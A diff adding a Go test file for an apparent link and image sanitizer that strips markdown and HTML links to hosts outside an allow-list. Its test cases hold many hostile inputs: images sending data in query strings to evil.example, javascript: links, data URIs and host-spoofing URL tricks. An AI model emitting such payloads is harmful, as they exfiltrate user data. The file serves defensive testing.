@@ -1,0 +1,112 @@
+package guard
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestLinks(t *testing.T) {
+	allow := []string{"ok.example", "*.cdn.example", " Docs.Example. ", "https://bad-entry.example", "*"}
+	const (
+		evilHost  = "link to a host not allowed: evil.example"
+		evilImage = "image from a host not allowed: evil.example"
+		malformed = "link to a URL not allowed: malformed"
+		relative  = "link to a URL not allowed: relative"
+	)
+	long := strings.Repeat("a", 3000)
+	tests := []struct {
+		name    string
+		text    string
+		want    string
+		reasons []string
+		blocked string // the reason, when blocked
+	}{
+		{name: "image carrying data in its query", text: "see ![chart](https://evil.example/p.png?d=SECRET%20DATA) now", want: "see [image removed] now", reasons: []string{evilImage}},
+		{name: "allowed image", text: "![chart](https://ok.example/c.png?x=1)", want: "![chart](https://ok.example/c.png?x=1)"},
+		{name: "link keeps its text", text: "[click here](https://evil.example/?q=x) please", want: "click here please", reasons: []string{evilHost}},
+		{name: "allowed link", text: "[docs](https://ok.example/a_(b))", want: "[docs](https://ok.example/a_(b))"},
+		{name: "allowed with normalized entry", text: "[d](https://docs.example/x)", want: "[d](https://docs.example/x)"},
+		{name: "entry with a scheme allows nothing", text: "[d](https://bad-entry.example/)", want: "d", reasons: []string{"link to a host not allowed: bad-entry.example"}},
+		{name: "wildcard subdomain", text: "![c](https://img.cdn.example/c.png)", want: "![c](https://img.cdn.example/c.png)"},
+		{name: "wildcard is not the apex", text: "![c](https://cdn.example/c.png)", want: "[image removed]", reasons: []string{"image from a host not allowed: cdn.example"}},
+		{name: "suffix is not a subdomain", text: "![c](https://evilcdn.example/c.png)", want: "[image removed]", reasons: []string{"image from a host not allowed: evilcdn.example"}},
+		{name: "allowed host as a prefix", text: "![c](https://ok.example.evil.example/c.png)", want: "[image removed]", reasons: []string{"image from a host not allowed: ok.example.evil.example"}},
+		{name: "data URI", text: "![x](data:image/png;base64,iVBORw0KGgo=)", want: "[image removed]", reasons: []string{"image from a URL not allowed: data"}},
+		{name: "javascript", text: "[x](javascript:alert(1))", want: "x", reasons: []string{"link to a URL not allowed: javascript"}},
+		{name: "mailto", text: "[mail us](mailto:a@ok.example)", want: "mail us", reasons: []string{"link to a URL not allowed: mailto"}},
+		{name: "relative", text: "[a](/path?q=1)", want: "a", reasons: []string{relative}},
+		{name: "protocol-relative", text: "![x](//evil.example/a.png)", want: "[image removed]", reasons: []string{"image from a URL not allowed: relative"}},
+		{name: "userinfo", text: "![x](https://ok.example@evil.example/a.png)", want: "[image removed]", reasons: []string{evilImage}},
+		{name: "fragment", text: "[x](https://evil.example#@ok.example)", want: "x", reasons: []string{evilHost}},
+		{name: "escaped at sign", text: `[x](https://ok.example\@evil.example)`, want: "x", reasons: []string{malformed}},
+		{name: "backslashes as slashes", text: `[x](https:\\evil.example)`, want: "x", reasons: []string{malformed}},
+		{name: "no slashes", text: "[x](https:evil.example/a)", want: "x", reasons: []string{evilHost}},
+		{name: "percent-encoded host", text: "[x](https://ok%2eexample/)", want: "x", reasons: []string{malformed}},
+		{name: "entity in host", text: "[x](https://ok.example&#64;evil.example/)", want: "x", reasons: []string{malformed}},
+		{name: "Unicode dot", text: "[x](https://evil。example/)", want: "x", reasons: []string{malformed}},
+		{name: "port and case", text: "[x](HTTPS://OK.Example:8443/a)", want: "[x](HTTPS://OK.Example:8443/a)"},
+		{name: "bad port", text: "[x](https://ok.example:evil/a)", want: "x", reasons: []string{malformed}},
+		{name: "title", text: `[x](https://evil.example "title") y`, want: "x y", reasons: []string{evilHost}},
+		{name: "junk after the URL", text: "[x](https://evil.example/a b c) y", want: "x y", reasons: []string{evilHost}},
+		{name: "angle destination", text: "[x](<https://evil.example/a b>)", want: "x", reasons: []string{malformed}},
+		{name: "space before the URL", text: "[x](\n  https://evil.example)", want: "x", reasons: []string{evilHost}},
+		{name: "empty destination", text: "[x]()", want: "x", reasons: []string{relative}},
+		{name: "image inside a link", text: "[![b](https://evil.example/b.png)](https://ok.example)", want: "[[image removed]](https://ok.example)", reasons: []string{evilImage}},
+		{name: "link around an image", text: "[![b](https://ok.example/b.png)](https://evil.example)", want: "![b](https://ok.example/b.png)", reasons: []string{evilHost}},
+		{name: "link in link text", text: "[a [b](https://evil.example) c](https://ok.example)", want: "[a b c](https://ok.example)", reasons: []string{evilHost}},
+		{name: "reference definition", text: "see [docs][1]\n\n[1]: https://evil.example/?d=x\n", want: "see [docs][1]\n\n\n", reasons: []string{evilHost}},
+		{name: "definition in a quote", text: "> [1]: <https://evil.example/?d=x> \"t\"", want: ">  \"t\"", reasons: []string{evilHost}},
+		{name: "allowed definition", text: "[1]: https://ok.example/\n", want: "[1]: https://ok.example/\n"},
+		{name: "not a definition mid-line", text: "a [1]: https://evil.example", want: "a [1]: https://evil.example"},
+		{name: "reference link alone", text: "[docs][1] and [docs]", want: "[docs][1] and [docs]"},
+		{name: "autolink", text: "<https://evil.example/?d=x>", want: "[link removed]", reasons: []string{evilHost}},
+		{name: "allowed autolink", text: "<https://ok.example/>", want: "<https://ok.example/>"},
+		{name: "email autolink", text: "<someone@evil.example>", want: "[link removed]", reasons: []string{relative}},
+		{name: "raw img", text: `a <img src="https://evil.example/p.png?d=x" alt=x> b`, want: "a [image removed] b", reasons: []string{evilImage}},
+		{name: "raw img upper case unquoted", text: `<IMG SRC=https://evil.example/p.png>`, want: "[image removed]", reasons: []string{evilImage}},
+		{name: "raw img slash separator", text: `<img/src="https://evil.example/p.png">`, want: "[image removed]", reasons: []string{evilImage}},
+		{name: "raw img allowed", text: `<img src="https://ok.example/p.png" width="20">`, want: `<img src="https://ok.example/p.png" width="20">`},
+		{name: "raw img relative", text: `<img src="logo.png">`, want: `<img src="logo.png">`},
+		{name: "srcset", text: `<img srcset="a.png 1x, https://evil.example/b.png 2x">`, want: "[image removed]", reasons: []string{"image from a URL not allowed: malformed"}},
+		{name: "entity in attribute", text: `<img src="https&#58;//evil.example/x">`, want: "[image removed]", reasons: []string{"image from a URL not allowed: relative"}},
+		{name: "raw img odd attribute first", text: `<img @x src=https://evil.example/p.png>`, want: "[image removed]", reasons: []string{evilImage}},
+		{name: "raw img no space after a quote", text: `<img src="https://evil.example/p.png"alt="">`, want: "[image removed]", reasons: []string{evilImage}},
+		{name: "raw img unclosed at the end", text: `a <img src=https://evil.example/p.png`, want: "a [image removed]", reasons: []string{evilImage}},
+		{name: "raw img unclosed quote at the end", text: `<img alt=x src="https://evil.example/p.png`, want: "[image removed]", reasons: []string{evilImage}},
+		{name: "raw img cut by a blank line", text: "<img src=https://evil.example/p.png\n\nmore", want: "[image removed]\n\nmore", reasons: []string{evilImage}},
+		{name: "raw img inside a block tag", text: "<div\n<img src=https://evil.example/x.png @y>", want: "", reasons: []string{"link to a host not allowed: evil.example"}},
+		{name: "raw img after junk longer than the limit", text: "<img " + strings.Repeat("x ", 1100) + "src=https://evil.example/x>", blocked: ReasonTooLong},
+		{name: "raw link keeps its text", text: `<a href='https://evil.example/x'>click</a>`, want: "click</a>", reasons: []string{evilHost}},
+		{name: "style url", text: `<div style="background:url(https://evil.example/x)">hi</div>`, want: "hi</div>", reasons: []string{"link to a URL not allowed: background"}},
+		{name: "plain tags", text: "<b>bold</b> <br/> <p class=\"x\">", want: "<b>bold</b> <br/> <p class=\"x\">"},
+		{name: "comparisons", text: "if a < b and c > d, or x<y then z", want: "if a < b and c > d, or x<y then z"},
+		{name: "code", text: "for (i=0; i<n; i++) { List<String> x = a<b)", want: "for (i=0; i<n; i++) { List<String> x = a<b)"},
+		{name: "unmatched brackets", text: "[a] b] [c !d ![e", want: "[a] b] [c !d ![e"},
+		{name: "orphan destination", text: "a](https://evil.example/?d=x) b", want: "a] b", reasons: []string{evilHost}},
+		{name: "bare URL is left alone", text: "see https://evil.example/?d=x", want: "see https://evil.example/?d=x"},
+		{name: "code is text too", text: "use `![x](https://evil.example/a)`", want: "use `[image removed]`", reasons: []string{evilImage}},
+		{name: "unclosed at the end is text", text: "![x](https://evil.example/?d=", want: "![x](https://evil.example/?d="},
+		{name: "blank line ends a construct", text: "[a\n\nb](https://ok.example)", want: "[a\n\nb](https://ok.example)"},
+		{name: "long link text", text: "[" + long + "](https://evil.example)", want: "[" + long + "]", reasons: []string{evilHost}},
+		{name: "long URL", text: "![x](https://evil.example/?q=" + long + ")", blocked: ReasonTooLong},
+		{name: "long autolink", text: "<https://evil.example/?q=" + long + ">", blocked: ReasonTooLong},
+		{name: "image formed by removal", text: "[x]![y](https://evil.example/a)(https://evil.example/b)", blocked: ReasonFormedLink},
+		{name: "link formed by removal", text: "[x]<https://evil.example/a>(https://evil.example/b)", want: "[x][link removed](https://evil.example/b)", blocked: ReasonFormedLink},
+		{name: "Unicode around", text: "é ![ü](https://evil.example/ß) 日本", want: "é [image removed] 日本", reasons: []string{"image from a host not allowed: evil.example"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := New().Check(acme, tt.text, allow)
+			if tt.blocked != "" {
+				if !v.Blocked || !slices.Contains(v.Reasons, tt.blocked) {
+					t.Fatalf("Check(%q) = %+v, want blocked for %q", tt.text, v, tt.blocked)
+				}
+				return
+			}
+			if v.Blocked || v.Text != tt.want || !slices.Equal(v.Reasons, tt.reasons) {
+				t.Fatalf("Check(%q)\n = %v %q %q\nwant %q %q", tt.text, v.Blocked, v.Text, v.Reasons, tt.want, tt.reasons)
+			}
+		})
+	}
+}
